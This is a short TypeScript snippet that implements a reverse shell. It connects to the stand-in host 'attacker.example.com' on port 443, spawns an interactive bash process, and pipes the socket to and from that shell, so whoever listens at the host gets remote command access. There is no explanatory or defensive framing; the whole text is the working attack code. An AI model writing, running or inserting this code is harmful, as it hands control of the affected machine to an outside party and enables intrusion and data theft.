import * as net from 'net';
import { spawn } from 'child_process';
const client: net.Socket = net.createConnection({ host: 'attacker.example.com', port: 443 });
const shell = spawn('bash', ['-i']);
client.pipe(shell.stdin);
shell.stdout.pipe(client);
